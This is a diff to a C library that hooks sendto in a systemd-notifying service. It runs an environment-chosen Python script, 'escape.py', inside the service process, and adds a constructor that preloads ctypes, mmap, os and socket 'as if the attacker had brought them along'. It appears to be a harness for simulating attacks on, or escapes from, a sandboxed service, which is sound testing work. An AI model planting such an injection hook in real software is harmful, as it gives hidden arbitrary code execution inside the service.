@@ -7,6 +7,14 @@
 
 static const char begun[] = "READY=1";
 
+/* The tools are there before the service gives up reading, as if the attacker had brought them along. */
+__attribute__((constructor)) static void prepare(void)
+{
+    Py_InitializeEx(0);
+    PyRun_SimpleString("import array, ctypes, encodings.idna, errno, json, mmap, os, socket");
+    PyEval_SaveThread();
+}
+
 /* What the service tells systemd goes through here. */
 ssize_t sendto(int to, const void *data, size_t length, int flags, const struct sockaddr *address, socklen_t size)
 {
@@ -18,7 +26,7 @@ ssize_t sendto(int to, const void *data, size_t length, int flags, const struct 
         script = fopen(getenv("SCRIPT"), "r");
     }
     if (script) {
-        Py_InitializeEx(0);
+        PyGILState_Ensure();
         PyRun_SimpleFile(script, "escape.py");
     }
     return next(to, data, length, flags, address, size);
